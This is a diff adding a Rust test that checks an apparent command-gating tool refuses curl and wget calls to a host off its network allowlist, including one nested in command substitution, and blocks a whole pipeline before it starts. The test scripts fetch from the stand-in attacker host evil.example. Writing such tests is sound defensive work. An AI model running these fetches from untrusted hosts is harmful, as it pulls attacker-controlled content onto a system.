@@ -248,3 +248,53 @@ fn variables_a_program_does_not_get_are_named_in_warnings() {
     let (_, v) = a.run_json("python3 -c 'print(1)'");
     assert_eq!(v["warnings"], serde_json::json!([]));
 }
+
+#[test]
+fn check_refuses_a_host_off_the_network_list_and_places_nested_commands() {
+    let a = crate::flow_support::Arena::new();
+    let script = "echo a\nx=$(curl -s http://evil.example/x)\ncurl -s {URL}/ok\nwget -q http://evil.example/\ny=1 z=$(echo hi)\n";
+    let r = a.run_args(&["check", "-c", &a.script(script)]);
+    let lines: Vec<&str> = r.stdout.lines().collect();
+    assert!(
+        lines
+            .iter()
+            .any(|l| l.starts_with("line   2  refuse    curl")),
+        "{}",
+        r.dump()
+    );
+    assert!(
+        lines
+            .iter()
+            .any(|l| l.starts_with("line   3  allow     curl")),
+        "{}",
+        r.dump()
+    );
+    assert!(
+        lines
+            .iter()
+            .any(|l| l.starts_with("line   4  refuse    wget")),
+        "{}",
+        r.dump()
+    );
+    assert!(
+        lines
+            .iter()
+            .any(|l| l.starts_with("line   5  allow     echo hi")),
+        "{}",
+        r.dump()
+    );
+    assert_eq!(r.status, 1, "{}", r.dump());
+    // When run, the refusal is decided before anything starts: no stage of the
+    // pipeline runs, nothing connects.
+    let r = a.run("touch before; curl -s http://evil.example/ | tee got.txt");
+    assert_eq!(r.status, 126, "{}", r.dump());
+    assert!(
+        r.stderr.contains("evil.example is not on the network list"),
+        "{}",
+        r.dump()
+    );
+    assert!(!a.exists("before") && !a.exists("got.txt"), "{}", r.dump());
+    // Benign: the allowed host, and a URL known only at run time.
+    a.run("curl -s {URL}/ok").assert_ok_with("ok");
+    a.run("u={URL}/ok; curl -s \"$u\"").assert_ok_with("ok");
+}
